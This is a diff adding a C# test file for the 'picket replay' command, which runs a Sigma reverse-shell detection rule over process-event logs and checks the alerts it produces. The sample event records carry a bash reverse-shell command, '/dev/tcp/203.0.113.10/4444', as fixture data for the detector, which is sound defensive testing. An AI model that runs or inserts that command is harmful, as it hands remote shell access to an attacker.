@@ -1,0 +1,170 @@
+using System.Text.Json;
+using System.Text.Json.Nodes;
+
+namespace Picket.Spec.Cli;
+
+/// <summary><c>picket replay</c> over good and bad input.</summary>
+public sealed class ReplaySpec : IDisposable
+{
+    private const string ReverseShell = "f14eb449-a05b-47b7-8557-70973f8b0c7d";
+    private const string Shell = """{"Image":"/bin/bash","CommandLine":"bash -i >& /dev/tcp/203.0.113.10/4444 0>&1","ProcessId":PID}""";
+    private const string Quiet = """{"Image":"/bin/ls","CommandLine":"ls"}""";
+
+    private readonly string _folder = Directory.CreateTempSubdirectory("picket-cli-").FullName;
+    private readonly string _rules;
+
+    public ReplaySpec()
+    {
+        _rules = Path.Combine(_folder, "rules");
+        Directory.CreateDirectory(_rules);
+        var bundled = Path.Combine(Corpora.Root, "config", "rules", "sigma", "execution_reverse_shell.yml");
+        File.Copy(bundled, Path.Combine(_rules, "shell.yml"));
+    }
+
+    private string Alerts => Path.Combine(_folder, "alerts.ndjson");
+
+    public void Dispose() => Directory.Delete(_folder, recursive: true);
+
+    [Fact]
+    public async Task A_malformed_line_is_named_and_the_rest_is_asked_about()
+    {
+        var first = Write("first.ndjson", Of(1), "{\"Image\": nope}", Quiet, "", "[1]", Of(2));
+        var second = Write("second.ndjson", Of(3), "{\"Image\":\"/bin/ba");
+        var result = await Cli.RunAsync("replay", "--rules", _rules, "--alerts", Alerts, first, second);
+        Assert.Equal(0, result.Code);
+        var errors = result.Error.Split('\n', StringSplitOptions.RemoveEmptyEntries);
+        Assert.Equal(3, errors.Length);
+        Assert.StartsWith($"picket: {first}:2:12: ", errors[0]);
+        Assert.StartsWith($"picket: {first}:5:1: ", errors[1]);
+        Assert.StartsWith($"picket: {second}:2:", errors[2]);
+        Assert.StartsWith("events 4, alerts 3, malformed 3, ", result.Out);
+
+        var alerts = Read();
+        Assert.Equal([(first, 1, 1), (first, 6, 2), (second, 1, 3)], alerts.Select(alert => (
+            alert["picket"]!["provenance"]!["file"]!.GetValue<string>(), alert["picket"]!["provenance"]!["record"]!.GetValue<int>(),
+            alert["process"]!["pid"]!.GetValue<int>())));
+        Assert.All(alerts, alert => Assert.Equal(ReverseShell, alert["rule"]!["id"]!.GetValue<string>()));
+        if (!OperatingSystem.IsWindows()) Assert.Equal(UnixFileMode.UserRead | UnixFileMode.UserWrite, File.GetUnixFileMode(Alerts));
+    }
+
+    [Fact]
+    public async Task The_summary_can_be_read_by_a_machine()
+    {
+        var input = Write("in.ndjson", Of(1), "nonsense", Quiet);
+        File.WriteAllText(Path.Combine(_rules, "broken.yml"), "title: broken\n");
+        var result = await Cli.RunAsync("replay", "--json", "--rules", _rules, "--alerts", Alerts, input);
+        Assert.Equal(0, result.Code);
+        using var document = JsonDocument.Parse(result.Out);
+        var summary = document.RootElement.EnumerateObject().ToDictionary(property => property.Name, property => property.Value.GetDouble());
+        Assert.Equal(["alerts", "events", "events_per_second", "malformed", "rule_errors", "rule_failures", "rules", "seconds"], summary.Keys.Order());
+        Assert.Equal((2, 1, 1, 1, 1, 0), (summary["events"], summary["alerts"], summary["malformed"], summary["rules"], summary["rule_errors"], summary["rule_failures"]));
+        Assert.InRange(summary["events_per_second"] * summary["seconds"], 1.9, 2.1);
+    }
+
+    [Fact]
+    public async Task A_broken_rule_is_named_at_its_place_and_the_others_fire()
+    {
+        var broken = Path.Combine(_rules, "broken.yml");
+        File.WriteAllText(broken, "title: broken\nid: 5b0c7e0e-52ea-4be7-9c0f-6f0c8d5c2b11\nlogsource: { product: linux }\ndetection:\n  sel:\n    Image|endswit: /x\n  condition: sel\n");
+        var noYaml = Path.Combine(_rules, "no-yaml.yml");
+        File.WriteAllText(noYaml, "title: [\n");
+        var result = await Cli.RunAsync("replay", "--rules", _rules, "--alerts", Alerts, Write("in.ndjson", Of(1)));
+        Assert.Equal(0, result.Code);
+        Assert.Contains($"picket: {broken}(6,5): error unknown-modifier: ", result.Error);
+        Assert.Contains($"picket: {noYaml}(", result.Error);
+        Assert.Single(Read());
+    }
+
+    [Fact]
+    public async Task The_same_replay_gives_the_same_alerts()
+    {
+        var input = Write("in.ndjson", [.. Enumerable.Range(1, 2000).Select(pid => pid % 3 == 0 ? Of(pid) : Quiet)]);
+        var moved = Path.Combine(_folder, "moved.ndjson");
+        File.Copy(input, moved);
+        List<JsonObject>[] runs = [await RunAsync(input), await RunAsync(input), await RunAsync(moved)];
+        Assert.Equal(666, runs[0].Count);
+        Assert.Equal(666, runs[0].Select(Id).Distinct().Count());
+        Assert.Equal(runs[0].Select(Id), runs[1].Select(Id));
+        Assert.Equal(runs[0].Select(Id), runs[2].Select(Id));
+        Assert.Equal(runs[0].Select(WithoutClock), runs[1].Select(WithoutClock));
+
+        async Task<List<JsonObject>> RunAsync(string file)
+        {
+            (await Cli.RunAsync("replay", "--rules", _rules, "--alerts", Alerts, file)).IsDone();
+            return Read();
+        }
+
+        static string Id(JsonObject alert) => alert["event"]!["id"]!.GetValue<string>();
+    }
+
+    [Fact]
+    public async Task The_first_record_is_read_like_every_other()
+    {
+        const string Full = """{"Image":"/bin/bash","CommandLine":"bash -i >& /dev/tcp/203.0.113.10/4444 0>&1","ProcessId":7,"UtcTime":"2026-01-02 03:04:05.678","Computer":"web1","User":"alice","Company":"Example","SourceIp":"192.0.2.1","TargetFilename":"/tmp/x","QueryName":"example.org","EventID":1}""";
+        const string Foreign = """{"logsource":{"product":"windows","category":"process_creation"},"Image":"/bin/bash","CommandLine":"bash -i >& /dev/tcp/203.0.113.10/4444 0>&1"}""";
+        (await Cli.RunAsync("replay", "--rules", _rules, "--alerts", Alerts, Write("in.ndjson", Full, Full, Full))).IsDone();
+        var alerts = Read().ConvertAll(Comparable);
+        Assert.Equal(3, alerts.Count);
+        Assert.Equal(alerts[2], alerts[0]);
+        Assert.Equal(alerts[2], alerts[1]);
+        Assert.All((string[])["2026-01-02T03:04:05.678", "web1", "alice", "192.0.2.1", "/tmp/x", "example.org", "\"company\""], text => Assert.Contains(text, alerts[0]));
+
+        (await Cli.RunAsync("replay", "--rules", _rules, "--alerts", Alerts, Write("foreign.ndjson", Foreign))).IsDone();
+        Assert.Empty(Read());
+
+        // What sets records of the same content apart: their numbers and the ids made of those.
+        static string Comparable(JsonObject alert)
+        {
+            foreach (var name in (string[])["id", "sequence", "created", "ingested"]) alert["event"]!.AsObject().Remove(name);
+            alert["picket"]!.AsObject().Remove("events");
+            alert["picket"]!["provenance"]!.AsObject().Remove("record");
+            alert.Remove("message");
+            return alert.ToJsonString();
+        }
+    }
+
+    [Fact]
+    public async Task What_cannot_be_read_or_written_is_status_2()
+    {
+        var input = Write("in.ndjson", Of(1));
+        var gone = Path.Combine(_folder, "gone");
+        (await Cli.RunAsync("replay", "--rules", _rules, "--alerts", Alerts, input, gone)).IsRefused(2, $"{gone}: no such file");
+        (await Cli.RunAsync("replay", "--rules", gone, "--alerts", Alerts, input)).IsRefused(2, $"{gone}: no such file");
+        (await Cli.RunAsync("replay", "--rules", _rules, "--alerts", Path.Combine(input, "x"), input)).IsRefused(2, input);
+        (await Cli.RunAsync("replay", "--rules", _rules, "--alerts", _folder, input)).IsRefused(2, _folder);
+        Assert.False(File.Exists(Alerts));
+        if (OperatingSystem.IsLinux()) (await Cli.RunAsync("replay", "--rules", _rules, "--alerts", "/dev/full", input)).IsRefused(2, "/dev/full");
+    }
+
+    [Fact]
+    public async Task An_input_is_never_overwritten_by_the_alerts()
+    {
+        var input = Write("in.ndjson", Of(1));
+        var link = Path.Combine(_folder, "link.ndjson");
+        File.CreateSymbolicLink(link, input);
+        (await Cli.RunAsync("replay", "--rules", _rules, "--alerts", input, input)).IsRefused(2, input);
+        (await Cli.RunAsync("replay", "--rules", _rules, "--alerts", link, input)).IsRefused(2, link);
+        Assert.Equal(Of(1) + "\n", await File.ReadAllTextAsync(input, TestContext.Current.CancellationToken));
+    }
+
+    private static string Of(int pid) => Shell.Replace("PID", pid.ToString(System.Globalization.CultureInfo.InvariantCulture), StringComparison.Ordinal);
+
+    /// <summary>The record has no time of its own, so that the clock of the run stands in its place.</summary>
+    private static string WithoutClock(JsonObject alert)
+    {
+        var copy = alert.DeepClone().AsObject();
+        copy.Remove("@timestamp");
+        copy["event"]!.AsObject().Remove("created");
+        copy["event"]!.AsObject().Remove("ingested");
+        return copy.ToJsonString();
+    }
+
+    private string Write(string name, params string[] lines)
+    {
+        var file = Path.Combine(_folder, name);
+        File.WriteAllText(file, string.Join('\n', lines) + "\n");
+        return file;
+    }
+
+    private List<JsonObject> Read() => [.. File.ReadLines(Alerts).Select(line => JsonNode.Parse(line)!.AsObject())];
+}
